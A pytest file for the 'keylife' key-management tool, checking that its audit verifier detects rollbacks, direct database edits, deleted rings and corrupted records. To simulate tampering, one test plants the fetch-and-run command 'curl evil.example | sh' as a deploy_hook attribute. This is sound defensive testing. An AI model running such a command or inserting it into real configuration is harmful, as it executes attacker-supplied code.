"""Issue 13 item 3: `keylife audit verify` compares the log with the rings. A ring rolled back
after `key compromise`, an attribute edited in the database, and a vanished ring each fail,
naming the ring and the record they disagree with; the hash chain alone passes all three."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from keylife_cli.main import cli

import keylife
from keylife.auditstate import check_state, ring_digest


def run(tmp: Path, *args: str) -> Result:
    base = ["--store", str(tmp / "k.db"), "--master-key-file", str(tmp / "mk")]
    return CliRunner().invoke(cli, [*base, *args], catch_exceptions=False)


def row(db: Path, name: str) -> tuple[int, str]:
    with closing(sqlite3.connect(db)) as con, con:
        found = con.execute("SELECT revision, doc FROM rings WHERE name=?", (name,)).fetchone()
    return int(found[0]), str(found[1])


def put(db: Path, name: str, revision: int, doc: str) -> None:
    with closing(sqlite3.connect(db)) as con, con:
        con.execute("UPDATE rings SET revision=?, doc=? WHERE name=?", (revision, doc, name))


@pytest.fixture
def store(tmp_path: Path) -> Path:
    with keylife.init(str(tmp_path / "k.db"), master_key_file=tmp_path / "mk") as m:
        m.create_ring("orders", "aes-256", "data-encryption")
        m.create_ring("web", "aes-256", "data-encryption", attributes={"deploy_hook": "true"})
        m.create_ring("spare", "aes-256", "data-encryption")
    assert run(tmp_path, "audit", "verify").exit_code == 0
    return tmp_path


def test_a_ring_rolled_back_after_a_compromise(store: Path) -> None:
    before = row(store / "k.db", "orders")
    assert (
        run(store, "key", "compromise", "orders", "--occurred-at", "2026-01-01T00:00Z").exit_code
        == 0
    )
    put(store / "k.db", "orders", *before)  # the compromised v1 is the primary again
    result = run(store, "--json", "audit", "verify")
    assert result.exit_code == 1
    (finding,) = json.loads(result.stdout)["state"]
    assert finding["ring"] == "orders"
    assert "rolled back or edited outside keylife" in finding["problem"]
    with keylife.open(str(store / "k.db"), master_key_file=store / "mk") as m:
        records = m.audit_records("orders")
    assert finding["seq"] == max(r.seq for r in records if r.ring_digest)
    assert json.loads(run(store, "--json", "audit", "verify").stdout)["problem"] == ""


def test_an_attribute_edited_in_the_database(store: Path) -> None:
    revision, doc = row(store / "k.db", "web")
    edited = json.loads(doc)
    edited["attributes"]["deploy_hook"] = "curl evil.example | sh"
    put(store / "k.db", "web", revision, json.dumps(edited))
    result = run(store, "audit", "verify")
    assert result.exit_code == 1
    assert "state FAILED: ring web is not what record" in result.output


def test_a_vanished_ring(store: Path) -> None:
    with closing(sqlite3.connect(store / "k.db")) as con, con:
        con.execute("DELETE FROM rings WHERE name='spare'")
    result = run(store, "audit", "verify")
    assert result.exit_code == 1
    assert "ring spare vanished: record" in result.output and "created it" in result.output


def test_every_change_records_the_ring_it_left(store: Path) -> None:
    with keylife.open(str(store / "k.db"), master_key_file=store / "mk") as m:
        m.rotate("orders")
        m.update_attributes("orders", 2, {"owner": "team-a"})
        ring = m.load("orders")
        last = m.audit_records("orders")[-1]
        assert last.ring_digest == ring_digest(ring)
        assert check_state(m.audit_records(), m.rings()) == []


def test_records_without_digests_are_not_compared(store: Path) -> None:
    with keylife.open(str(store / "k.db"), master_key_file=store / "mk") as m:
        old = [replace(r, ring_digest="") for r in m.audit_records()]
        rings = m.rings()
    edited = [replace(r, attributes={"x": "y"}) for r in rings]
    assert check_state(old, edited) == []


def test_transit_labels_are_not_rings(store: Path) -> None:
    """Transit-resident rings are logged as ``transit:NAME`` and are not in the ring list."""
    with keylife.open(str(store / "k.db"), master_key_file=store / "mk") as m:
        records = m.audit_records()
        rings = m.rings()
    first = records[0]
    transit = replace(first, seq=len(records) + 1, ring="transit:orders", ring_digest="")
    assert check_state([*records, transit], rings) == []


def test_policy_digest_names_the_effective_policy(tmp_path: Path) -> None:
    from keylife.auditstate import policy_digest
    from keylife.policy import default_policy, load_policy

    one = tmp_path / "one.toml"
    one.write_text('[policy]\nprofile = "128-bit"\n')
    two = tmp_path / "two.toml"
    two.write_text('# the same, written differently\n[policy]\nprofile   =   "128-bit"\n')
    assert policy_digest(load_policy(one)) == policy_digest(load_policy(two))
    assert policy_digest(load_policy(one)) == policy_digest(default_policy("128-bit"))
    assert policy_digest(load_policy(one)) != policy_digest(default_policy())


def test_a_damaged_ring_is_a_finding(store: Path) -> None:
    with closing(sqlite3.connect(store / "k.db")) as con, con:
        con.execute("UPDATE rings SET doc='{not json' WHERE name='web'")
    result = run(store, "audit", "verify")
    assert result.exit_code == 1
    assert "state FAILED: ring web does not decode" in result.output
